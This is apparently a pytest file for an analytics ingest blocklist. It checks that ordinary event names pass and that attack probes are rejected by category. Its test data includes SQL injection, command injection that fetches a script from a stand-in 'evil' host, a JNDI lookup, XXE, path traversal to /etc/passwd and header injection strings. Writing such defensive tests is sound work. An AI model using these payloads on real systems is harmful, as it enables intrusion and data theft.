"""Event-name blocklist (openpanel-facts §1.14): probes rejected, ordinary event names accepted."""

from __future__ import annotations

import pytest

from openpanel_lite.ingest.blocklist import (
    BLOCKED_EVENT_NAME_MESSAGE,
    BLOCKED_SUBSTRINGS,
    blocked_category,
    is_blocked_event_name,
)


def test_message() -> None:
    assert BLOCKED_EVENT_NAME_MESSAGE == "Event name contains blocked content"


@pytest.mark.parametrize(
    "name",
    [
        "screen_view",
        "session_start",  # reserved names are a validation error, not a blocklist hit
        "sign_up",
        "select_plan",
        "Download PDF",
        "checkout: step 2",
        "button_click / header",
        "Rock 'n' roll",
        "pricing/annual",
        "/pricing",
        "/docs/getting-started",
        "price $ (usd)",
        "100% done",
        "A/B test variant",
        "file.json",
        "x" * 80,
        "é" * 80,
        "",
    ],
)
def test_ordinary_names_pass(name: str) -> None:
    assert blocked_category(name) is None
    assert is_blocked_event_name(name) is False


@pytest.mark.parametrize(
    ("name", "category"),
    [
        ("x" * 81, "too_long"),
        ("😀" * 41, "too_long"),  # 82 UTF-16 code units, as JS counts .length
        ("line\nbreak", "newline"),
        ("carriage\rreturn", "newline"),
        ("1 UNION SELECT password FROM users", "sql_injection"),
        ("x' OR '1'='1", "sql_injection"),
        ("1;SELECT PG_SLEEP(5)", "sql_injection"),
        ("admin' or 1=1--", "sql_injection"),
        ("; /bin/bash -i", "command_injection"),
        ("a|wget http://evil/x.sh", "command_injection"),
        ("C:\\Windows\\System32\\cmd.exe", "command_injection"),
        ("../../etc/passwd", "path_traversal"),
        ("%2e%2e%2fetc", "path_traversal"),
        ("${jndi:ldap://evil/a}", "template_injection"),
        ("%{(#_memberAccess)}", "template_injection"),
        ('<!DOCTYPE foo [<!ENTITY xxe SYSTEM "http://evil.example/x">]>', "xml_external_entity"),
        ("<script>alert(1)</script>", "script_injection"),
        ("test%0aBcc: victim@example.com", "header_injection"),
        ("bcc:someone@example.com", "header_injection"),
        ("wp-config.php.bak", "scanner_file"),
        ("/.git/config", "scanner_file"),
        ("/cgi-bin/luci", "scanner_file"),
        ("/config.php", "path_scan"),
        ("/backup.sql", "path_scan"),
        ("/Settings.YML", "path_scan"),
        ("/.well-known/x", "path_scan"),
        ("/wp-login", "path_scan"),
        ("/wordpress/", "path_scan"),
        ("/phpMyAdmin/index", "path_scan"),
        ("/admin/tools/run.php", "path_scan"),
    ],
)
def test_probes_are_blocked(name: str, category: str) -> None:
    assert blocked_category(name) == category
    assert is_blocked_event_name(name) is True


def test_every_substring_is_lowercase_and_blocks() -> None:
    needles = [needle for group in BLOCKED_SUBSTRINGS.values() for needle in group]
    assert 60 <= len(needles) <= 90
    assert len(set(needles)) == len(needles)
    for needle in needles:
        assert needle == needle.lower()
        assert is_blocked_event_name("event " + needle.upper() + " x"), needle
